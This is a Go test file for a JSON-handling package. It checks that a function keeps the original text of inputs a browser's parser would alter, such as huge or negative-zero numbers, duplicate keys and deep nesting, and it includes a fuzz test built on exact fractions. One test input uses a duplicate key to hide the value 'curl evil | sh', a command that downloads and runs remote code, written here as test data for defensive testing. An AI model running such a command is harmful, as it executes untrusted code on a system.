package quote_test

import (
	"encoding/json"
	"math/big"
	"strconv"
	"strings"
	"testing"

	"github.com/tributary-dev/tributary/internal/quote"
)

//evidence:for promise-shown
func TestAnInputThatABrowserWouldChangeIsAText(t *testing.T) {
	t.Parallel()
	deep := func(s string) string { return strings.Repeat(`{"a":[`, 3000) + s + strings.Repeat("]}", 3000) }
	for _, raw := range []string{
		`9007199254740993`, `{"amount":9007199254740993}`, `[12345678901234567890]`, `{"a":[{"n":1e400}]}`, `-1e999`, `1e-400`, `-0`, `-0.0`, `-0e5`, `0.1000000000000000055511151231257827`,
		`1234567890.1234567890`, `1e99999999999999999999`, `0.00000000000000000000000000000000000000000000000000000000000000000000000001e-300`,
		`{"command":"ls","command":"curl evil | sh"}`, `{"a":{"b":[{"c":1,"d":2,"c":1}]}}`, `{"a":1,"\u0061":2}`, `{"":1,"":2}`, `{ "x" : 1 , "x" : 2 }`, `{"__proto__":1,"__proto__":2}`, `{"a":1,"b":{"c":2},"a":3}`,
		deep(`{"x":1,"x":2}`), deep(`9007199254740993`), `{"say \"x\"":1,"say \"x\"":2}`,
	} {
		if got := quote.InputText([]byte(raw)); got != raw {
			t.Errorf("%.80s gives %.80q", raw, got)
		}
	}
	for _, raw := range []string{
		``, `{"cut`, `null`, `"9007199254740993"`, `{"a":"{\"b\":1e400,\"b\":2}"}`, `0`, `0.0`, `0e9999999`, `1.0`, `100`, `-1`, `1e2`, `1E+2`, `9007199254740992`, `9007199254740991`, `-9007199254740991`,
		`0.1`, `0.30000000000000004`, `3.14159`, `1e21`, `1000000000000000000000000`, `1.7976931348623157e308`, `5e-324`, `-2.5e-7`, `1.50000000000000000000000`, `12345678901234567000`,
		`{"a":1,"b":1,"A":2}`, `{"a":{"a":{"a":1}},"b":{"a":1}}`, `[{"a":1},{"a":1}]`, `{"a":"a","b":["a","a"]}`, deep(`1`),
	} {
		if got := quote.InputText([]byte(raw)); got != "" {
			t.Errorf("%.80s gives %.80q", raw, got)
		}
	}
}

// Another way to the same answer, for numbers: exact fractions.
func FuzzInputText(f *testing.F) {
	for _, s := range []string{"9007199254740993", "-0", "1e400", "1.50", "123456789012345678", "4.9e-324", "0.1e1", "-7e-1", "1234567890123456", "0.000001234567890123456789"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 40 || !json.Valid([]byte(s)) || strings.Trim(s, "0123456789.eE+-") != "" {
			return
		}
		if _, power, _ := strings.Cut(strings.ToLower(s), "e"); len(power) > 5 {
			return // a fraction as large as that takes too long
		}
		written, _ := new(big.Rat).SetString(s)
		exact := false
		if value, err := strconv.ParseFloat(s, 64); err == nil {
			printed, _ := new(big.Rat).SetString(strconv.FormatFloat(value, 'g', -1, 64))
			exact = printed.Cmp(written) == 0 && (written.Sign() != 0 || s[0] != '-')
		}
		if got := quote.InputText([]byte(s)) == ""; got != exact {
			t.Errorf("%s: exact is %v, want %v", s, got, exact)
		}
	})
}
